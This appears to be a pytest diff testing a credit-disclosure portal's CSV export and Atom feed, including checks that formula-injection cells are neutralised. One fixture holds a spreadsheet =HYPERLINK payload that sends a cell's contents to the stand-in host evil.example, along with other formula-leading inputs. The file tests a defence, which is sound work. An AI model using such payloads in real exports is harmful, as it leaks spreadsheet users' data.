@@ -1,0 +1,340 @@
+"""CSV export and Atom feed (issue 3, points 3 and 4): the CSV is UTF-8 with a
+BOM, RFC 4180, with provenance columns and neutralised formula cells; the
+feed is Atom 1.0, newest first, with the list's filters."""
+import csv
+import datetime
+import io
+import re
+import xml.etree.ElementTree as ET
+from urllib.parse import urlsplit
+
+import pytest
+
+import portal
+import world as world_mod
+from portal import PUBLIC_SQL, mask_id
+from world import PAGE_TOKEN
+
+DAY = datetime.timedelta(days=1)
+ATOM = "{http://www.w3.org/2005/Atom}"
+RFC3339 = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})")
+EXPORT_WORD = "鹓鶵"   # only in this module's rows
+
+HEADER = ["记录编号 record_no", "永久链接 url", "失信行为 title", "失信主体 subject",
+          "主体类型 kind", "统一社会信用代码 credit_code", "身份证号码(脱敏) id_masked",
+          "地区 district", "类别 category", "领域 domain", "严重程度 severity", "状态 status",
+          "失信事实 facts", "认定依据 legal_basis", "决定书文号 decision_no", "决定机关 authority",
+          "决定日期 decided_on", "公示日期 disclosed_on", "最早可修复日期 repair_from",
+          "撤下日期 withdraw_on", "金额(元) amount", "信息来源部门 department",
+          "最后变更 updated_at"]
+COL = {h.split(" ")[1]: i for i, h in enumerate(HEADER)}
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击%s")' % EXPORT_WORD
+FORMULA_FACTS = '+1+2 事实,含逗号 "引号" 与换行\n第二行\r\n第三行'
+
+
+@pytest.fixture(scope="module")
+def ex(stack, world):
+    t = world.today
+    minus = world_mod.add_gov(stack, "-减号开头的测试局%s" % EXPORT_WORD, "baodi")
+    at = world_mod.add_gov(stack, "@at开头的测试局", "baodi")
+    rows = {
+        "formula": world_mod.add_record(stack, world, "TJZW-2097-000301", minus,
+                                        title=FORMULA_TITLE, facts=FORMULA_FACTS,
+                                        decision_no="@SUM(1+1)〔2097〕301号",
+                                        disclosed=t - 3 * DAY),
+        "tab": world_mod.add_record(stack, world, "TJZW-2097-000302", at,
+                                    title="\t制表符开头%s" % EXPORT_WORD,
+                                    facts="\r回车开头", disclosed=t - 4 * DAY),
+        "minus": world_mod.add_record(stack, world, "TJZW-2097-000303", at,
+                                      title="-减号开头%s" % EXPORT_WORD,
+                                      facts="@at开头的事实", disclosed=t - 5 * DAY),
+        "plain": world_mod.add_record(stack, world, "TJZW-2097-000304", at,
+                                      title="普通标题 %s 中间有=和+号" % EXPORT_WORD,
+                                      facts=" 前后空格 ", disclosed=t - 6 * DAY),
+    }
+    return {"rows": rows, "subjects": {"minus": minus, "at": at}}
+
+
+def sql_nos(stack, where="", params=(), oldest=False):
+    t = portal.today()
+    d = "ASC" if oldest else "DESC"
+    return [r[0] for r in stack.sql(
+        "SELECT r.record_no FROM records r WHERE " + PUBLIC_SQL + where +
+        " ORDER BY r.disclosed_on %s, r.id %s" % (d, d), (t, t, *params))]
+
+
+def csv_get(stack, params=None):
+    r = stack.get("/records.csv", params=params)
+    assert r.status_code == 200, r.text[:300]
+    raw = r.content
+    assert raw.startswith(b"\xef\xbb\xbf"), raw[:10]
+    text = raw[3:].decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
+    return r, text, rows
+
+
+# -- CSV -------------------------------------------------------------------------------
+
+def test_csv_headers(stack, world):
+    r = stack.get("/records.csv", params={"district": "heping"})
+    assert r.status_code == 200
+    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
+    cd = r.headers["Content-Disposition"]
+    assert re.fullmatch(r'attachment; filename="[\w.-]+\.csv"', cd), cd
+    assert r.headers["Access-Control-Allow-Origin"] == "*"
+
+
+def test_csv_bom_header_and_rfc4180(stack, world, ex):
+    r, text, rows = csv_get(stack)
+    assert rows[0] == HEADER
+    assert all(len(row) == len(HEADER) for row in rows), "ragged rows"
+    # every record ends in CRLF; the only bare LFs are inside quoted fields
+    assert text.endswith("\r\n")
+    assert text.startswith(",".join(HEADER) + "\r\n")
+    nos = [row[0] for row in rows[1:]]
+    assert nos == sql_nos(stack)
+    assert len(nos) == len(set(nos))
+
+
+def test_csv_formula_cells_are_neutralised(stack, world, ex):
+    _, text, rows = csv_get(stack, {"q": EXPORT_WORD})
+    by_no = {row[0]: row for row in rows[1:]}
+    rec = ex["rows"]
+    assert set(by_no) == {r.no for r in rec.values()}
+    f = by_no[rec["formula"].no]
+    assert f[COL["title"]] == "'" + FORMULA_TITLE
+    assert f[COL["facts"]] == "'" + FORMULA_FACTS          # newline, quotes, commas intact
+    assert f[COL["subject"]] == "'" + ex["subjects"]["minus"].name
+    assert f[COL["decision_no"]] == "'" + rec["formula"].decision_no
+    t = by_no[rec["tab"].no]
+    assert t[COL["title"]] == "'" + rec["tab"].title
+    assert t[COL["facts"]] == "'" + rec["tab"].facts
+    assert t[COL["subject"]] == "'" + ex["subjects"]["at"].name
+    m = by_no[rec["minus"].no]
+    assert m[COL["title"]] == "'" + rec["minus"].title
+    assert m[COL["facts"]] == "'" + rec["minus"].facts
+    p = by_no[rec["plain"].no]
+    assert p[COL["title"]] == rec["plain"].title          # = and + inside: untouched
+    assert p[COL["facts"]] == rec["plain"].facts          # spaces kept (quoted)
+    assert p[COL["amount"]] == "12000.00"
+    # no cell of the whole export starts a formula
+    for row in rows:
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@\t\r", (row[0], cell)
+    # the raw quoting: quotes doubled inside a quoted field
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点击' in text
+
+
+def test_csv_provenance_columns(stack, world, ex):
+    _, _, rows = csv_get(stack, {"q": EXPORT_WORD})
+    for row in rows[1:]:
+        no = row[COL["record_no"]]
+        assert row[COL["url"]] == stack.base_url + "/records/" + no
+        assert row[COL["department"]] == "测试公共信用信息中心"
+        updated = stack.sql("SELECT updated_at FROM records WHERE record_no = %s", (no,))[0][0]
+        assert row[COL["updated_at"]] == updated.strftime("%Y-%m-%d %H:%M:%S")
+        r = stack.get(urlsplit(row[COL["url"]]).path[len("/credit"):])
+        assert r.status_code == 200 and no in r.text
+
+
+def test_csv_values_match_the_record(stack, world):
+    rec = world.records["corrected"]
+    _, _, rows = csv_get(stack, {"q": rec.decision_no})
+    assert len(rows) == 2
+    row = rows[1]
+    assert row[COL["record_no"]] == rec.no
+    assert row[COL["title"]] == rec.title and row[COL["facts"]] == rec.facts
+    assert row[COL["subject"]] == rec.subject.name
+    assert row[COL["credit_code"]] == rec.subject.credit_code
+    assert row[COL["id_masked"]] == ""
+    assert row[COL["district"]] == "和平区" and row[COL["status"]] == "已更正"
+    assert row[COL["disclosed_on"]] == rec.disclosed.isoformat()
+    assert row[COL["withdraw_on"]] == rec.withdraw_on.isoformat()
+    assert row[COL["repair_from"]] == rec.repair_from.isoformat()
+    minor = world.records["official"]
+    row = csv_get(stack, {"q": minor.decision_no})[2][1]
+    assert row[COL["repair_from"]] == ""
+
+
+@pytest.mark.parametrize("key", ["official", "official_full"])
+def test_csv_masks_the_official_id(stack, world, key):
+    rec = world.records[key]
+    _, text, rows = csv_get(stack, {"kind": "official"})
+    row = next(r for r in rows[1:] if r[0] == rec.no)
+    assert row[COL["id_masked"]] == mask_id(rec.subject.id_full)
+    assert rec.subject.id_full not in text
+    # the same masked value as the API and the record page
+    api = stack.get("/api/v1/records/" + rec.no).json()["record"]["subject"]["id_masked"]
+    page = portal.text_by_id(stack.get("/records/" + rec.no).text, "id-masked")
+    assert row[COL["id_masked"]] == api == page
+
+
+def test_csv_empty_result_has_the_header(stack, world):
+    _, text, rows = csv_get(stack, {"from": (world.today + DAY).isoformat()})
+    assert rows == [HEADER]
+
+
+def test_csv_filters_and_errors(stack, world):
+    _, _, rows = csv_get(stack, {"district": "hexi", "severity": "serious", "sort": "oldest"})
+    assert [r[0] for r in rows[1:]] == sql_nos(
+        stack, " AND r.district = %s AND r.severity = %s", ("hexi", "serious"), oldest=True)
+    r = stack.get("/records.csv", params={"district": "xx"})
+    assert r.status_code == 400
+    assert portal.error_detail(r.text).split(":")[0] == "district"
+
+
+def test_csv_is_streamed(stack, world):
+    """A large export goes out chunked (no Content-Length computed up front)."""
+    r = stack.get("/records.csv", stream=True)
+    try:
+        assert r.status_code == 200
+        assert r.headers.get("Transfer-Encoding") == "chunked"
+        assert "Content-Length" not in r.headers
+    finally:
+        r.close()
+
+
+def test_csv_conditional_get(stack, world):
+    r = stack.get("/records.csv", params={"district": "heping"})
+    etag = r.headers["ETag"]
+    r2 = stack.get("/records.csv", params={"district": "heping"},
+                   headers={"If-None-Match": etag})
+    assert r2.status_code == 304 and r2.content == b""
+
+
+# -- Atom ------------------------------------------------------------------------------------
+
+def feed(stack, params=None):
+    r = stack.get("/feed.atom", params=params)
+    assert r.status_code == 200, r.text[:300]
+    assert r.headers["Content-Type"] == "application/atom+xml; charset=utf-8"
+    assert r.headers["Access-Control-Allow-Origin"] == "*"
+    root = ET.fromstring(r.content)
+    assert root.tag == ATOM + "feed"
+    return r, root
+
+
+def entries(root):
+    return root.findall(ATOM + "entry")
+
+
+def entry_no(e):
+    return e.find(ATOM + "id").text.rsplit("/", 1)[1]
+
+
+def parse_time(s):
+    assert RFC3339.fullmatch(s), s
+    return datetime.datetime.fromisoformat(s)
+
+
+def test_feed_is_atom(stack, world):
+    r, root = feed(stack, {"district": "heping"})
+    assert root.find(ATOM + "id").text
+    assert root.find(ATOM + "title").text
+    parse_time(root.find(ATOM + "updated").text)
+    assert root.find(ATOM + "author/" + ATOM + "name").text
+    self_link = [l for l in root.findall(ATOM + "link") if l.get("rel") == "self"]
+    assert len(self_link) == 1
+    assert self_link[0].get("href") == stack.base_url + "/feed.atom?district=heping"
+    alt = [l for l in root.findall(ATOM + "link") if l.get("rel") == "alternate"]
+    assert alt and alt[0].get("href") == stack.base_url + "/records?district=heping"
+    ids = set()
+    for e in entries(root):
+        eid = e.find(ATOM + "id").text
+        assert eid not in ids
+        ids.add(eid)
+        assert e.find(ATOM + "title").text
+        parse_time(e.find(ATOM + "updated").text)
+        links = [l for l in e.findall(ATOM + "link") if l.get("rel", "alternate") == "alternate"]
+        assert len(links) == 1
+        assert links[0].get("href") == stack.base_url + "/records/" + entry_no(e)
+    assert len(ids) == min(50, len(sql_nos(stack, " AND r.district = 'heping'")))
+
+
+def test_feed_links_resolve(stack, world):
+    _, root = feed(stack, {"q": PAGE_TOKEN})
+    for e in entries(root)[:5]:
+        href = e.find(ATOM + "link").get("href")
+        r = stack.get(urlsplit(href).path[len("/credit"):])
+        assert r.status_code == 200 and entry_no(e) in r.text
+
+
+def test_feed_is_newest_first_and_filtered(stack, world):
+    for params, where, args in (
+            ({}, "", ()),
+            ({"district": "hexi", "severity": "serious"},
+             " AND r.district = %s AND r.severity = %s", ("hexi", "serious")),
+            ({"kind": "official", "limit": 100}, " AND r.subject_kind = 'official'", ()),
+            ({"status": "contested", "limit": 100}, " AND r.status = 'contested'", ())):
+        _, root = feed(stack, params)
+        got = [entry_no(e) for e in entries(root)]
+        assert got == sql_nos(stack, where, args)[:int(params.get("limit", 50))], params
+        published = [e.find(ATOM + "published").text[:10] for e in entries(root)]
+        assert published == sorted(published, reverse=True)
+
+
+def test_feed_sort_is_always_newest(stack, world):
+    _, newest = feed(stack, {"q": PAGE_TOKEN})
+    _, oldest = feed(stack, {"q": PAGE_TOKEN, "sort": "oldest"})
+    assert [entry_no(e) for e in entries(oldest)] == [entry_no(e) for e in entries(newest)]
+
+
+def test_feed_entry_content(stack, world, ex):
+    rec = ex["rows"]["formula"]
+    _, root = feed(stack, {"q": EXPORT_WORD})
+    e = next(e for e in entries(root) if entry_no(e) == rec.no)
+    assert rec.title in e.find(ATOM + "title").text
+    assert e.find(ATOM + "published").text.startswith(rec.disclosed.isoformat())
+    updated = stack.sql("SELECT updated_at FROM records WHERE id = %s", (rec.id,))[0][0]
+    assert parse_time(e.find(ATOM + "updated").text) == updated.replace(
+        tzinfo=portal.BEIJING)
+    # markup of a title survives as text
+    xss = world.records["xss"]
+    _, root = feed(stack, {"q": xss.decision_no})
+    assert [entry_no(e) for e in entries(root)] == [xss.no]
+    assert xss.title in entries(root)[0].find(ATOM + "title").text
+
+
+def test_feed_updated_is_the_latest_change(stack, world, ex):
+    """The feed's updated is the latest instant any entry changed: after an
+    entry that is not the newest disclosure is edited, the feed's updated
+    is at least that entry's updated."""
+    rec = ex["rows"]["plain"]
+    # the newest disclosure last changed an hour ago; then another entry changes now
+    stack.sql("UPDATE records SET updated_at = NOW() - INTERVAL 1 HOUR WHERE id = %s",
+              (ex["rows"]["formula"].id,))
+    stack.sql("UPDATE records SET facts = %s WHERE id = %s", ("事实已修改", rec.id))
+    _, root = feed(stack, {"q": EXPORT_WORD})
+    assert entry_no(entries(root)[0]) != rec.no
+    feed_updated = parse_time(root.find(ATOM + "updated").text)
+    latest = max(parse_time(e.find(ATOM + "updated").text) for e in entries(root))
+    assert feed_updated >= latest, "feed updated %s < entry updated %s" % (feed_updated, latest)
+
+
+def test_empty_feed(stack, world):
+    _, root = feed(stack, {"from": (world.today + DAY).isoformat()})
+    assert entries(root) == []
+    parse_time(root.find(ATOM + "updated").text)
+
+
+def test_feed_never_has_withdrawn_or_future(stack, world):
+    _, root = feed(stack, {"limit": 100})
+    got = {entry_no(e) for e in entries(root)}
+    for key in ("revoked", "repaired", "expired_status", "expired_long_ago", "expires_today",
+                "future", "future_far"):
+        assert world.no(key) not in got
+    assert world.no("expires_tomorrow") in {entry_no(e) for e in entries(
+        feed(stack, {"q": world.records["expires_tomorrow"].decision_no})[1])}
+
+
+def test_feed_bad_filter_is_400(stack, world):
+    r = stack.get("/feed.atom", params={"severity": "critical"})
+    assert r.status_code == 400
+    assert portal.error_detail(r.text).split(":")[0] == "severity"
+
+
+def test_feed_conditional_get(stack, world):
+    r = stack.get("/feed.atom")
+    r2 = stack.get("/feed.atom", headers={"If-None-Match": r.headers["ETag"]})
+    assert r2.status_code == 304
